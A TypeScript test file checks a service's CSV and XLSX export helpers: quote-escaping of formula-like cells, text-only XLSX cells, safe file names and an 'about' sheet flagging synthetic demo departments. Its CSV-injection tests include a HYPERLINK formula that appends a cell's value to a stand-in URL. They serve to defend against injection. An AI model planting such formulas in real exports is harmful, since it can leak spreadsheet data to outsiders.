import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { aboutLines, beijingTime, type WrittenTable } from '../src/http/export-about.js';
import { csvField } from '../src/http/export-csv.js';
import { contentDisposition, exportFileName } from '../src/http/export-file-name.js';
import type { TableColumn } from '../src/http/export-rows.js';
import { toXlsx } from '../src/http/export-xlsx.js';

/** The small parts of a download that need no server: fields, file names, the about sheet. */

const column = (path: string): TableColumn => ({ path, fromRoot: false, zh: path, en: path });

describe('csvField', () => {
  it('writes numbers as GraphQL JSON does, booleans as true/false and null as nothing', () => {
    const numbers = [10105.79, 0.6685979027864224, -0.05, 1700000, 0];
    expect(numbers.map(csvField)).toEqual(numbers.map((n) => JSON.stringify(n)));
    expect([true, false, null].map(csvField)).toEqual(['true', 'false', '']);
    expect(csvField('含，全角逗号')).toBe('含，全角逗号');
  });
});

/**
 * CSV injection: Excel runs a field that begins with =, +, -, @, a tab or a carriage return as a
 * formula. "=全年4期" is a target text of the real report (indicator 3, as its measure stores it).
 */
describe('text cells Excel would run as formulas, in a CSV download', () => {
  it('get a single quote in front, for each character that starts a formula', () => {
    expect(
      ['=全年4期', '+86 20 83123456', '-5%', '@SUM(A1:A9)', '\t制表符开头'].map(csvField),
    ).toEqual(["'=全年4期", "'+86 20 83123456", "'-5%", "'@SUM(A1:A9)", "'\t制表符开头"]);
  });

  it('keep the quote inside the field when the field itself needs quoting', () => {
    expect(csvField('=HYPERLINK("http://example.com/?d="&A1,"详情")')).toBe(
      `"'=HYPERLINK(""http://example.com/?d=""&A1,""详情"")"`,
    );
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('leave numbers alone: a negative amount stays a number, and so does a text that is only one', () => {
    expect([-0.05, -10105.79, 0.6686].map(csvField)).toEqual(['-0.05', '-10105.79', '0.6686']);
    expect(['-0.05', '+3', '-10105.79'].map(csvField)).toEqual(['-0.05', '+3', '-10105.79']);
  });

  it('leave other texts as they are, a formula character inside a text included', () => {
    expect(['全年4期', '1=1', ' =1', "'引号开头", '合计-扣分'].map(csvField)).toEqual([
      '全年4期',
      '1=1',
      ' =1',
      "'引号开头",
      '合计-扣分',
    ]);
  });
});

describe('text cells in an XLSX download', () => {
  it('are stored as text, never as formulas, so they keep their exact value', async () => {
    const texts = ['=全年4期', '=HYPERLINK("http://example.com","详情")', '-5%', '@SUM(A1)'];
    const xlsx = await toXlsx(
      [{ name: 's', header: ['t', 'n'], rows: texts.map((t) => [t, -0.05]) }],
      [],
      new Date(),
    );
    const workbook = new ExcelJS.Workbook();
    // exceljs types load() with a Buffer of its own that is an ArrayBuffer.
    await workbook.xlsx.load(new Uint8Array(xlsx).buffer);
    const sheet = workbook.getWorksheet('s')!;
    const cells = texts.map((_, i) => sheet.getRow(i + 2).getCell(1));
    expect(cells.map((c) => c.type)).toEqual(texts.map(() => ExcelJS.ValueType.String));
    expect(cells.map((c) => c.value)).toEqual(texts);
    expect(sheet.getRow(2).getCell(2).value).toBe(-0.05);
  });
});

describe('file names', () => {
  it('joins the operation and its naming variables, skipping nulls, and keeps them file-safe', () => {
    expect(exportFileName('Benchmark', ['BASIC_SHARE', 2023], 'csv')).toBe(
      'Benchmark-BASIC_SHARE-2023.csv',
    );
    expect(exportFileName('MetricSeries', ['EXECUTION_RATE', null, undefined], 'xlsx')).toBe(
      'MetricSeries-EXECUTION_RATE.xlsx',
    );
    expect(exportFileName('Departments', ['a/b"c'], 'csv')).toBe('Departments-a_b_c.csv');
  });

  it('gives an ASCII filename and the UTF-8 one in filename*', () => {
    expect(contentDisposition('Departments-政法.csv')).toBe(
      `attachment; filename="Departments-__.csv"; filename*=UTF-8''Departments-%E6%94%BF%E6%B3%95.csv`,
    );
  });
});

describe('the about sheet', () => {
  const input = (tables: WrittenTable[], headers: 'zh' | 'en' = 'zh') => ({
    operation: 'X',
    variables: { year: 2023 },
    generated: new Date('2024-01-31T20:30:00.000Z'),
    query: ' query X { x } ',
    tables,
    headers,
  });
  const about = (tables: WrittenTable[], headers: 'zh' | 'en' = 'zh') =>
    new Map(aboutLines(input(tables, headers)));

  it('gives the generation time in Beijing time', () => {
    expect(beijingTime(new Date('2024-01-31T20:30:00.123Z'))).toBe('2024-02-01T04:30:00+08:00');
    expect(about([]).get('生成时间')).toBe('2024-02-01T04:30:00+08:00');
  });

  it('counts rows and departments flagged synthetic, and rows counting synthetic departments', () => {
    const entries: WrittenTable = {
      sheet: '部门排名',
      columns: [column('department.code'), column('department.synthetic')],
      rows: [
        ['a', true],
        ['a', true],
        ['b', true],
        ['gz-zfw', false],
      ],
    };
    const trends: WrittenTable = {
      sheet: 'trends',
      columns: [column('key'), column('points.syntheticDepartments')],
      rows: [
        ['k', 0],
        ['k', 2],
      ],
    };
    expect(about([entries, trends]).get('合成数据')).toBe(
      '含合成演示部门（演示语料，不是真实部门）：部门排名：3 行（2 个部门），synthetic 列为 true；trends：1 行的合成部门计数大于 0。',
    );
    expect(about([entries], 'en').get('synthetic data')).toBe(
      'Includes synthetic demo departments (demo corpus, not real): 部门排名: 3 rows (2 departments) with synthetic = true.',
    );
  });

  it('leaves out the department count when the table has no code beside the flag', () => {
    const report: WrittenTable = {
      sheet: '报告',
      columns: [column('id'), column('synthetic')],
      rows: [['x/2023', true]],
    };
    expect(about([report]).get('合成数据')).toBe(
      '含合成演示部门（演示语料，不是真实部门）：报告：1 行，synthetic 列为 true。',
    );
  });

  it('says so when nothing is synthetic', () => {
    const real: WrittenTable = {
      sheet: 's',
      columns: [column('department.code'), column('department.synthetic')],
      rows: [['gz-zfw', false]],
    };
    expect(about([real]).get('合成数据')).toBe('不含合成演示部门。');
    expect(about([real], 'en').get('synthetic data')).toBe('No synthetic demo departments.');
  });
});
